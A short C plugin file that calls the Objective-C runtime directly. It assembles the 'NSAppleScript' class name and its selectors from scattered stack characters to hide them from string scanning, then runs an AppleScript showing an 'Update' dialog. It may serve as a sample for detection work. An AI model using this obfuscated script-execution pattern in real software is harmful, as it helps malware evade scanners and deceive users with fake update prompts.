/* Objective-C by its runtime: class and selectors are put together on the stack. */
#include "plugin.h"
typedef void *id;
extern id objc_getClass(const char *), sel_registerName(const char *), objc_msgSend();
static char *put(char *to, const char *a, const char *b) {
    char *t = to;
    while (*a) *t++ = *a++;
    while (*b) *t++ = *b++;
    *t = 0;
    return to;
}
static void act(char **env) {
    volatile char ns[] = {'N', 'S', 0}, apple[] = {'A', 'p', 'p', 'l', 'e', 'S', 'c', 'r', 'i', 'p', 't', 0};
    char name[32], selector[32];
    id (*send)(id, id, ...) = (id (*)(id, id, ...))objc_msgSend;
    id text = ((id (*)(id, id, const char *))objc_msgSend)(objc_getClass("NSString"), sel_registerName("stringWithUTF8String:"), "display dialog \"Update\"");
    id script = send(objc_getClass(put(name, (char *)ns, (char *)apple)), sel_registerName("alloc"));
    script = ((id (*)(id, id, id))objc_msgSend)(script, sel_registerName(put(selector, "init", "WithSource:")), text);
    ((id (*)(id, id, id *))objc_msgSend)(script, sel_registerName(put(selector, "executeAnd", "ReturnError:")), 0);
}
